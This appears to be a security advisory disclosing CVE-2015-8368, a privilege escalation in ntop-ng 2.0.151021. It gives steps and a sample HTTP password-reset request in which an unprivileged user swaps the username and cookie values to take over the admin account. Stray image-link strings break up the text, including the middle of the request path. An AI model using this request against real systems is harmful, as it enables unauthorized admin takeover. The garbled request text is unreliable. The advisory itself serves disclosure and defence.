ntop-ng 2.0.151021 - Privilege Escalation







# Vulnerability title: ntop-ng <= 2.0.151021 - Privilege Escalation
# Author: Dolev Farhi
# Contact: dolev at flaresec.com
# Vulnerable version: 2.0.151021
# Fixed version:2.2
# Link: ntop.org
# Date 27.11.2015
# CVE-2015-8368

# Product Details:
ntopng is the next generation version of the original ntop, a network traffic probe that shows the network usage, similar to what the popular top Unix command does. ntopng is based on libpcap and it has been written in a portable way in order to virtually run on every Unix platform, MacOSX andon Windows as well.

# Vulnerability Details:
in the latest stable release of ntop-ng it is possible to escalate the privileges of a non-privileged user to the admin account by resetting the password, intercepting the request and replacing the HTTP parameters.

# Vulnerability Proof of concept
1. Login with an unprivileged account
2. Change the account password and intercept the request, modify  the username= and Cookie user= and change to the admin accountGET /lua/admin/password_reset.lua?csrf=XXXXXXXXXXXXXXXXXX&username=admin&old_password=12345&new_password=123456&confirm_new_password=123456 HTTP/1.1
Cookie: user=admin;session=XXXXXXXXXXXXXXXXXXXXXXXXX
3. Login with the adminaccount and the password you defined in step #3.

Voila! you're an administrator.